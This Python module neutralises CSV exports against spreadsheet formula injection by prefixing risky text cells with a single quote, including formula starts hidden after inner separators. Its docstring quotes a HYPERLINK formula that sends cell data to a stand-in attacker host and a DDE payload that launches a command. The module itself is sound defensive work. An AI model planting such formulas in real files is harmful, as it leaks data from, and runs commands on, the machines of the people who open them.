"""Cells of the CSV files Concord writes, made safe to open in a spreadsheet.

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with
`=`, `+`, `-` or `@` as a formula, and a leading tab or carriage return can
hide such a start from a reader; a formula can leak the sheet's data to a
remote server (`=HYPERLINK("http://evil.example/?"&A1, "x")`) or start
commands (DDE). Crowd workers and uploaded files fill many of these cells
(comments, Prolific ids, question and answer texts, system and evaluator
names), so every export goes through this module.

The rule (OWASP, "CSV Injection"): a *text* cell whose first character is one
of `= + - @`, tab or carriage return gets a single quote in front (`'=1+2`),
which spreadsheets show as text and most hide. Only text changes: numbers
(`int`, `float`, `Decimal`; `-0.5` stays the number -0.5 for the analysis),
booleans, dates and empty cells are written as they are. A text that happens
to look like a number (`"-2"`) is text from someone and is prefixed too. The
header row (column names can be rater ids or evaluator names) follows the
same rule.

Every text cell is quoted, numbers are not (csv.QUOTE_NONNUMERIC). That is
not enough where the list separator is a semicolon (much of Europe): a
spreadsheet reading the comma file with `;` splits the line at every
semicolon outside a cell that *starts* with a quote, so a comment
`ok;=cmd|'/C calc'!A0` in the middle of a line becomes a cell `=cmd...`, and
`a\n=1+1` ends the line and starts the next with `=1+1`. So inside a text,
a formula start that follows a separator or a line break (`,` `;` tab CR
LF, with any quotes between) gets the same single quote (`ok;'=cmd...`,
`a\n'=1+1`): however the line is split, no cell starts like a formula
(tests/test_spreadsheet.py reads every export with `,` and with `;`).

No Django and no pandas import at module level: config is imported by every
process, and only the report's exports hand a DataFrame in.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # for the annotations only: no pandas import at run time (see above)
    import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# a formula start after a separator or a line break (and any quotes): where a
# reader with another separator would start a cell
_INNER_START = re.compile(r'([,;\t\r\n]"*)(?=[=+\-@\t\r])')
_SPLITS = frozenset(",;\t\r\n")


def neutralise(value: Any) -> Any:
    """The value, with a single quote in front if it is text that a spreadsheet
    would read as a formula, and in front of every formula start that follows
    a separator or line break inside it; anything that is not text unchanged."""
    if not isinstance(value, str):
        return value
    if not _SPLITS.isdisjoint(value):
        value = _INNER_START.sub(r"\1'", value)
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """A CSV file (header, then one line per row, cells in `columns` order; a
    missing key is an empty cell, extra keys are left out) with every header
    and cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow([neutralise(column) for column in columns])
    for row in rows:
        writer.writerow([neutralise(row.get(column, "")) for column in columns])
    return out.getvalue()


def frame_csv(frame: pd.DataFrame) -> str:
    """A pandas DataFrame as a CSV file like `csv_text`'s: neutralised, no index,
    and CRLF line ends (RFC 4180, as the csv module writes), so that a text
    holding a bare carriage return is quoted rather than read as a line end."""
    return neutralise_frame(frame).to_csv(
        index=False, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC
    )


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of a pandas DataFrame with its column names and its text cells
    neutralised, for `to_csv`. Numeric, boolean and date columns are not
    touched (their dtype stays numeric); a categorical column has its
    categories mapped, not its rows."""
    # a shallow copy: columns that change are replaced in it, never written into
    out = frame.copy(deep=False)
    out.columns = [neutralise(name) for name in frame.columns]
    for position, dtype in enumerate(out.dtypes):
        if dtype.kind in "biufcmM":  # numbers, booleans, dates and durations
            continue
        column = out.iloc[:, position]
        if dtype.name == "category":
            out.isetitem(position, column.map(neutralise))
            continue
        # Text columns hold few distinct values (names, ids) over many rows: look
        # at each value once and rewrite only the cells that change (a 10^6-row
        # column in ~0.06 s when none does, not the ~0.7 s of a call per cell).
        try:
            changed = {v: neutralise(v) for v in column.unique() if neutralise(v) is not v}
        except TypeError:  # unhashable cells (lists): one call per cell
            out.isetitem(position, column.map(neutralise))
            continue
        if changed:
            hit = column.isin(list(changed))
            column = column.copy()
            column[hit] = column[hit].map(changed)
            out.isetitem(position, column)
    return out
